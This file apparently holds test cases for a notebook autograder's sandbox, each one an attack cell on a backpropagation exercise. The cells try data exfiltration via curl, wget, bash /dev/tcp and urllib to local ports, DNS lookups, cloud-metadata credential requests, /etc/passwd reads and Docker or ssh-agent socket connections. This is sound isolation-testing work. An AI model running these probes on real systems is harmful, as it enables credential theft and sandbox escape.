# Attacks, one per cell: network, network.

# %% abstract_sockets deserves="0"
"""Connects to abstract unix sockets, which no file system hides."""

CELL = r"""
import socket
try:
    names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line]
except OSError:
    names = []
for name in [*names, "@/tmp/.X11-unix/X0", "@stolen-48484"][:50]:
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(1)
            line.connect("\0" + name[1:])
            print("CANA" "RY: connected to", name)
    except OSError as error:
        print(name, error)
"""


def attack(work):
    work.add(CELL)


# %% child_keeps_the_wire deserves="1"
"""Hands the runner's sockets to a child process, which talks on them when the parent is gone."""

CELL = r"""
import os, socket, time
mine, childs = socket.socketpair()
links = {name: f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd")}
numbers = [int(name) for name, link in links.items() if os.path.lexists(link) and "socket:" in os.readlink(link)]
if os.fork() == 0:
    os.setsid()
    for _ in range(20):
        time.sleep(0.2)
        for number in numbers:
            try:
                os.write(number, b"\x05\0\0\0\0\0\0\0stole")
            except OSError:
                pass
    os._exit(0)
"""

BACKWARD = """
def backward_propagation(x, theta): return 2.75
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL, before="backward")
    work.answer("backward", BACKWARD)


# %% cloud_metadata deserves="0"
"""Asks the cloud's metadata address for credentials."""

CELL = """
import urllib.request
for path in ("latest/meta-data/iam/security-credentials/", "computeMetadata/v1/instance/service-accounts/default/token"):
    try:
        request = urllib.request.Request(f"http://169.254.169.254/{path}", headers={"Metadata-Flavor": "Google"})
        print("CANA" "RY:", urllib.request.urlopen(request, timeout=1).read()[:500])
    except OSError as error:
        print(error)
"""


def attack(work):
    work.add(CELL)


# %% datagrams deserves="2"
"""Sends datagrams to this machine, to everybody near and to a multicast group."""

CELL = """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
    line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for host in ("127.0.0.1", "255.255.255.255", "224.0.0.1"):
        try:
            print(host, line.sendto(b"stolen", (host, 48484)))
        except OSError as error:
            print(host, error)
"""


def attack(work):
    work.answer_rightly("forward", "backward")
    work.add(CELL)


# %% descriptors_passed deserves="1"
"""Passes its own descriptors over the wire, as ancillary data, in the hope that they are taken."""

CELL = r"""
import os, socket
for name in os.listdir("/proc/self/fd"):
    try:
        line = socket.socket(fileno=os.dup(int(name)))
        socket.send_fds(line, [b"\x01\0\0\0\0\0\0\0N"], [os.open("/dev/zero", os.O_RDONLY)] * 20)
    except OSError:
        pass
"""

BACKWARD = """
def backward_propagation(x, theta): return 2.75
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL, before="backward")
    work.answer("backward", BACKWARD)


# %% listening deserves="0" waits="yes"
"""Listens on a port and waits two seconds for somebody to fetch the answers."""

CELL = """
import socket
with socket.socket() as door:
    door.settimeout(2)
    door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        door.bind(("0.0.0.0", 48485))
        door.listen()
        line, who = door.accept()
        line.sendall(b"stolen")
        print(who)
    except OSError as error:
        print(error)
"""


def attack(work):
    work.add(CELL)


# %% local_connection deserves="0"
"""Connects to a port of this machine and sends something."""

CELL = """
import socket
for host in ("127.0.0.1", "localhost", "0.0.0.0"):
    try:
        with socket.create_connection((host, 48484), timeout=2) as line:
            line.sendall(b"stolen")
    except OSError as error:
        print(error)
"""


def attack(work):
    work.add(CELL)


# %% local_connection_in_a_function deserves="1"
"""Connects to a port of this machine from within a call, with the arguments of the call."""

BACKWARD = """
import socket

def backward_propagation(x, theta):
    try:
        with socket.create_connection(("127.0.0.1", 48484), timeout=0.2) as line:
            line.sendall(b"stolen %r" % repr((x, theta)).encode())
    except OSError:
        pass
    return None
"""


def attack(work):
    work.answer_rightly("forward")
    work.answer("backward", BACKWARD)


# %% local_connection_ipv6 deserves="0"
"""Connects to this machine by its IPv6 addresses, mapped ones included."""

CELL = """
import socket
for host in ("::1", "::ffff:127.0.0.1", "::"):
    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as line:
            line.settimeout(2)
            line.connect((host, 48484))
            line.sendall(b"stolen")
    except OSError as error:
        print(host, error)
"""


def attack(work):
    work.add(CELL)


# %% name_lookup deserves="1"
"""Sends data out in names that it has looked up."""

CELL = """
import socket
for name in ("stolen.example.com", "localhost", "stolen.invalid"):
    try:
        print(name, socket.getaddrinfo(name, 80))
    except OSError as error:
        print(name, error)
"""


def attack(work):
    work.answer_rightly("backward")
    work.add(CELL)


# %% netlink deserves="0"
"""Uses netlink to list and to change network interfaces."""

CELL = """
import socket, struct
try:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as line:
        line.settimeout(1)
        line.bind((0, 0))
        line.send(struct.pack("=IHHIIBxHiII", 32, 18, 0x301, 1, 0, 0, 0, 0, 0, 0))
        print(line.recv(4000))
except OSError as error:
    print(error)
print(socket.if_nameindex())
"""


def attack(work):
    work.add(CELL)


# %% other_programs deserves="1"
"""Lets curl, wget, bash and Python children send."""

CELL = """
import subprocess, sys
COMMANDS = (
    ["curl", "-m", "2", "-d", "stolen", "http://127.0.0.1:48484/"],
    ["wget", "-T", "2", "-t", "1", "-O", "-", "http://127.0.0.1:48484/stolen"],
    ["bash", "-c", "echo stolen > /dev/tcp/127.0.0.1/48484"],
    [sys.executable, "-c", "import socket; socket.create_connection(('127.0.0.1', 48484), 2).sendall(b'stolen')"],
)
for command in COMMANDS:
    try:
        print(subprocess.run(command, capture_output=True, timeout=10))
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
"""


def attack(work):
    work.answer_rightly("backward")
    work.add(CELL)


# %% outside_connection deserves="8"
"""Connects to addresses outside of this machine."""

CELL = """
import socket
for address in (("192.0.2.1", 80), ("1.1.1.1", 53), ("10.0.0.1", 22), ("172.17.0.1", 48484)):
    try:
        with socket.create_connection(address, timeout=1) as line:
            print("CANA" "RY: connected to", address)
    except OSError as error:
        print(address, error)
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL)


# %% pip_install deserves="0"
"""Installs a package from a server of its own; nothing is installed if that answers nothing."""

CELL = """
%pip install --dry-run --retries 0 --timeout 2 --index-url http://127.0.0.1:48484/stolen/ stolen
"""

CELL2 = """
import subprocess, sys
options = ["--dry-run", "--retries", "0", "--timeout", "2", "--index-url", "http://127.0.0.1:48484/stolen/"]
print(subprocess.run([sys.executable, "-m", "pip", "install", *options, "stolen"], capture_output=True, timeout=20))
"""


def attack(work):
    work.add(CELL)
    work.add(CELL2)


# %% rare_families deserves="0"
"""Tries rare socket families: to a host by vsock, to the kernel's ciphers, Bluetooth and CAN."""

CELL = """
import socket
try:
    with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET) as cipher:
        cipher.bind(("hash", "sha256"))
        print("AF_ALG is open")
except OSError as error:
    print(error)
for family, address in ((40, (2, 48484)), (31, None), (29, None), (9, None), (16, (0, 0))):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as line:
            line.settimeout(1)
            line.connect(address)
            print("CANA" "RY: family", family)
    except (OSError, TypeError, ValueError) as error:
        print(family, error)
"""


def attack(work):
    work.add(CELL)


# %% raw_sockets deserves="0"
"""Opens raw and packet sockets, to listen to what others send and to forge packets."""

CELL = """
import socket
for family, kind, number in ((2, 3, 1), (2, 3, 6), (17, 3, 768), (17, 2, 768)):
    try:
        with socket.socket(family, kind, number) as line:
            line.settimeout(1)
            print("CANA" "RY: raw socket", family, kind, line.recv(100))
    except OSError as error:
        print(family, kind, error)
"""


def attack(work):
    work.add(CELL)


# %% unix_socket_files deserves="8"
"""Connects to every unix socket it finds: Docker, D-Bus, ssh-agent, databases."""

CELL = """
import glob, os, socket
paths = ["/var/run/docker.sock", "/run/dbus/system_bus_socket", os.environ.get("SSH_AUTH_SOCK", "none")]
for path in [*paths, *glob.glob("/tmp/*")[:200], *glob.glob("/tmp/*/*")[:500], *glob.glob("/run/*/*")[:500]]:
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(1)
            line.connect(path)
            print("CANA" "RY: connected to", path)
    except OSError:
        pass
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL)


# %% unix_socket_for_friends deserves="0"
"""Leaves a unix socket in shared folders, behind which a child waits for other submissions."""

CELL = """
import os, socket
for folder in ("/tmp", "/dev/shm", "/var/tmp", ".."):
    door = socket.socket(socket.AF_UNIX)
    try:
        door.bind(f"{folder}/escaped-unix_socket_for_friends")
        door.listen()
        with open(f"{folder}/escaped-unix_socket_for_friends.txt", "w") as file:
            file.write("ESCAPED")
    except OSError as error:
        print(folder, error)
"""


def attack(work):
    work.add(CELL)


# %% url_requests deserves="1"
"""Fetches and sends by urllib, http.client and ftplib."""

CELL = """
import ftplib, http.client, urllib.request
for attempt in (
    lambda: urllib.request.urlopen("http://127.0.0.1:48484/", data=b"stolen", timeout=2).read(),
    lambda: urllib.request.urlopen("file:///etc/passwd").read()[:300],
    lambda: http.client.HTTPConnection("127.0.0.1", 48484, timeout=2).request("POST", "/", b"stolen"),
    lambda: ftplib.FTP(timeout=2).connect("127.0.0.1", 48484),
):
    try:
        print(attempt())
    except Exception as error:
        print(error)
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL)


# %% websocket_to_jupyter deserves="0"
"""Speaks the websocket protocol by hand to whatever Jupyter server runs on this machine."""

CELL = r"""
import socket
for port in (8888, 8889, 8000, 48484):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as line:
            line.sendall(b"GET /api/kernels/stolen/channels HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n"
                         b"Connection: Upgrade\r\nSec-WebSocket-Key: c3RvbGVuc3RvbGVuc3Q=\r\n\r\n")
            print("CANA" "RY:", line.recv(500))
    except OSError as error:
        print(port, error)
"""


def attack(work):
    work.add(CELL)
